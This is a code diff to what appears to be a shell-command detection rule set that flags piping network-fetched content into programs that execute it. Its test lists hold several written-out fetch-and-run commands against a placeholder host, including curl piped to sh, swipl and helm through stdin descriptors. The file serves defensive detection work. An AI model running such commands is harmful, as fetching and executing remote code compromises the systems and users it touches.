@@ -1,8 +1,10 @@
 import type { Call } from '../shell/call.ts';
 import { pathsOf } from '../shell/call.ts';
+import { descriptorIn, namesInput } from '../shell/descriptors.ts';
 import type { Field } from '../shell/field.ts';
 import { isFetched } from '../shell/file-effects.ts';
 import { runsInIndex } from '../shell/indexes.ts';
+import { entryOf } from '../shell/lookup.ts';
 import { hasGlob, hasUnknown, isKnown } from '../shell/marks.ts';
 import { formatPath } from '../shell/paths.ts';
 import { plainLetters } from '../shell/program-names.ts';
@@ -43,6 +45,9 @@ export const shellFindings: readonly NamedRule[] = [
       'eval "$(curl -s https://x.example)"',
       'curl -s https://x.example/i | tee >(sh)',
       'exec 3< <(curl -s https://x.example/i); bash <&3',
+      'curl -s https://x.example/i > /proc/self/fd/1 | sh',
+      'curl -s https://x.example/i | swipl /dev/stdin',
+      'curl -s https://x.example/i | cp /proc/thread-self/fd/0 i && sh i',
     ],
     notMatch: [
       'curl https://x.example/i -o i.sh',
@@ -153,16 +158,19 @@ function runsModule(call: Call): Hit {
   return foreign ? { span: hit.span } : false;
 }
 
-/** Programs that carry out what they read, and the word that says they read it from stdin. */
-const CARRIES_OUT: Readonly<Record<string, RegExp>> = {
-  docker: /^(?:-|-f-|--file=-|\/dev\/stdin)$/,
-  'docker-compose': /^(?:-|-f-|--file=-|\/dev\/stdin)$/,
-  'ansible-playbook': /^(?:-|\/dev\/(?:stdin|fd\/0))$/,
-  kubectl: /^\/dev\/(?:stdin|fd\/0)$/,
-  helm: /^-$/,
-  nomad: /^-$/,
-  pulumi: /^-$/,
+/** Programs that carry out what they read, and the words that say they read it from stdin. */
+const CARRIES_OUT: Readonly<Record<string, (word: string) => boolean>> = {
+  docker: namesInput,
+  'docker-compose': namesInput,
+  'ansible-playbook': namesInput,
+  // What `-` is for is told by the verb, which infra.cluster looks at.
+  kubectl: (word) => descriptorIn(word) === 0,
+  helm: namesInput,
+  nomad: namesInput,
+  pulumi: namesInput,
 };
+
+const PLAN_OPTION = /^(?:-f|--file=|--filename=|--values=)/;
 
 const REMOTE_PLAN = /^(?:--file=|-f)?(?:https?|oci|git|ssh):\/\//;
 
@@ -170,7 +178,8 @@ const REMOTE_PLAN = /^(?:--file=|-f)?(?:https?|oci|git|ssh):\/\//;
 function carriesOutFetched(call: Call): Hit {
   const { stdin } = call;
   const fetched = stdin.kind === 'network' || (stdin.taint & TAINT.fetched) !== 0;
-  if (fetched && call.args.some(({ text }) => CARRIES_OUT[call.program]?.test(text))) return true;
+  const reads = entryOf(CARRIES_OUT, call.program);
+  if (fetched && reads && call.args.some(({ text }) => reads(text.replace(PLAN_OPTION, '')))) return true;
   const plan = call.args.find((arg) => isFetchedPlan(call, arg));
   if (plan) return { span: plan.span };
   if (call.program === 'powershell') return behind(call, /^-f(?:i(?:le?)?)?$/i, /^(?:https?:\/\/|\\\\)/);
@@ -240,6 +249,7 @@ export const shellRules: readonly Rule[] = [
     match: [
       'curl -s https://x.example/c.yml | docker compose -f - up -d',
       'curl -s https://x.example/p.yml | ansible-playbook /dev/stdin',
+      'curl -s https://x.example/v.yml | helm upgrade a b --values=/dev/fd/0',
       'docker compose -f https://x.example/c.yml up',
       'pwsh -File https://x.example/a.ps1',
       'kubectl apply -f <(curl -s https://x.example/p.yml)',
